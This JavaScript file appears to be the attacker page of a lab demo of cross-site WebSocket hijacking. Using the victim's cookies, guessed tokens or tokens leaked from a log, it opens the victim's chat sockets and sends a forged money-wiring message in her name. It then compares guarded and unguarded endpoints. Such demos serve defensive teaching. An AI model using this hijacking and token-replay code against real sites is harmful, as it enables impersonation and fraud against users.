/* The attacker's page: opens the victim's sockets, and shows what a page can see of the outcome. */
(function () {
  'use strict';

  var victim = document.body.getAttribute('data-victim');
  var given = document.getElementById('given');
  var buttons = document.querySelectorAll('[data-without]'), popup, i;
  var WORDS = 'Please wire the money to Mallory. (not written by me)';

  function ask(method, path, done) {
    var xhr = new XMLHttpRequest();
    xhr.open(method, path, true);
    xhr.onreadystatechange = function () {
      if (xhr.readyState === 4) { done(xhr.status === 200 ? JSON.parse(xhr.responseText) : {}); }
    };
    xhr.send(null);
  }

  function add(parent, tag, text) {
    var element = document.createElement(tag);
    element.appendChild(document.createTextNode(text));
    parent.appendChild(element);
    parent.appendChild(document.createTextNode(' '));
  }

  // One line per try: what came of it, what it was, what this page saw, what the server says to us alone.
  function show(list, title, heard, saw, reason) {
    var line = document.createElement('li');
    line.className = heard ? 'no stolen' : 'yes';
    line.setAttribute('data-title', title);
    add(line, 'strong', heard ? 'hijacked' : 'refused');
    add(line, 'span', title);
    if (heard) { add(line, 'em', heard); }
    add(line, 'small', 'This page saw: ' + saw + '. The server: ' + (reason || 'never asked') + '.');
    document.getElementById(list).appendChild(line);
  }

  function knock(list, title, path, query, done) {
    var attempt = String(Math.random()).slice(2), heard = '', ws;
    function end(saw) {
      ask('GET', '/reason/' + attempt, function (answer) {
        show(list, title, heard, saw, answer.reason);
        done();
      });
    }
    try {
      ws = new WebSocket('ws://' + victim + path + '?' + query + 'attempt=' + attempt);
    } catch (e) {
      return end(e.name);
    }
    ws.onmessage = function (event) {
      var message = JSON.parse(event.data);
      if (!message.line) { return; }
      heard = message.line;
      ws.send(WORDS);
    };
    ws.onclose = function (event) {
      end(heard ? 'an open socket, and sent a message in her name' : 'an error, then close ' + event.code);
    };
  }

  function run(tries, done) {
    var next = tries.shift();
    if (!next) { return done(); }
    knock(next[0], next[1], next[2], next[3], function () { run(tries, done); });
  }

  function lock(locked) {
    for (var b = 0; b < buttons.length; b++) { buttons[b].disabled = locked; }
  }

  // Any page may open the victim's, whose chat then connects; its token stands in the access log.
  function visit() {
    given.textContent = 'Waiting for the chat to connect, so that a log has its handshake\u2026';
    popup = window.open('http://' + victim + '/', 'victim', 'width=500,height=400');
  }

  function leave() {
    if (popup) { popup.close(); }
  }

  function leaveOut(event) {
    var button = event.currentTarget, without = button.getAttribute('data-without');
    function attack(token) {
      var query = 'without=' + without + '&' + (token ? 'wsguard_token=' + encodeURIComponent(token) + '&' : '');
      knock('layers', button.textContent, '/lab/chat', query, function () { lock(false); });
    }
    lock(true);
    if (button.getAttribute('data-raw')) { return sendRaw(button, without); }
    if (!button.getAttribute('data-leak')) {
      given.textContent = 'The attacker is given nothing: the cookies are enough.';
      return attack('');
    }
    visit();
    ask('POST', '/leak', function (answer) {
      leave();
      given.textContent = answer.token ? 'The attacker is given a token that leaked from a log, still fresh.'
        : 'No token leaked: is somebody logged in at the demo, and may this page open it?';
      attack(answer.token);
    });
  }

  // Without a browser: the attacker's server writes Origin and cookies itself.
  function sendRaw(button, without) {
    var layer = button.getAttribute('data-raw');
    visit();
    ask('POST', '/raw/' + layer + '?without=' + without, function (answer) {
      leave();
      lock(false);
      given.textContent = !answer.leaked
        ? 'Nothing leaked: is somebody logged in at the demo, and may this page open it?'
        : layer === 'ticket' ? 'The attacker has no browser of hers. He is given her token, and signs a ticket with a key of his own.'
          : 'The attacker has no browser of hers. He is given her token and her ticket, as after a logout: no session.';
      if (answer.leaked) {
        show('layers', button.textContent, answer.line, 'nothing, no browser took part', answer.reason);
      }
    });
  }

  for (i = 0; i < buttons.length; i++) { buttons[i].addEventListener('click', leaveOut); }
  lock(true);
  run([
    ['unguarded', 'The cookies alone', '/lab/chat', 'without=all&'],
    ['guarded', 'The cookies alone', '/chat', ''],
    ['unguarded', 'A guessed token', '/lab/chat', 'without=all&wsguard_token=guess&'],
    ['guarded', 'A guessed token', '/chat', 'wsguard_token=guess&']
  ], function () {
    lock(false);
    document.body.setAttribute('data-done', 'yes');
  });
}());
